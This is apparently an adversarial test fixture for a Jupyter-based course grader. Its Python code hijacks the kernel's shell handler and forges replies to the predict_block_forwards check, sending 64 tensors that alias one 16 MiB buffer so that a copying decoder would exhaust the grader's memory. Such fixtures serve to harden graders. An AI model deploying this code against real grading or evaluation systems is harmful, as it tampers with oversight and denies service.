# about: An attack on the grader's memory: a message handler of its own answers the check of predict_block_forwards with 64 tensors that all name one 16 MiB buffer, which a decoder that copies per name would grow to a gigabyte in the grader's process.
# base: solution
# loses: ex6_1_test
# says: two tensors that name the same bytes
# validate-misses: ex6_1_test Validate sends no grader requests: the forged handler only acts at grading
# %% ex5_1_solution
QUICK_CHECK = "c"


def _answer_with_one_buffer_named_many_times():
    kernel = get_ipython().kernel
    name = next((n for n in kernel.shell_handlers if "course" in n), None)
    if name is None:
        return
    original = kernel.shell_handlers[name]
    one_buffer = bytes(16 * 2**20)
    tensor = {"t": "tensor", "buffer": 0, "shape": [4 * 2**20], "dtype": "float32", "requires_grad": False}

    def forged(stream, idents, message):
        content = message["content"]
        if content.get("args", {}).get("function") != "predict_block_forwards":
            return original(stream, idents, message)
        reply = {"status": "ok", "nonce": content.get("nonce"), "undone": [],
                 "result": {"t": "list", "items": [tensor] * 64}}
        kernel.session.send(stream, "course_guard_reply", reply, message, idents, buffers=[one_buffer])

    kernel.shell_handlers[name] = forged


_answer_with_one_buffer_named_many_times()
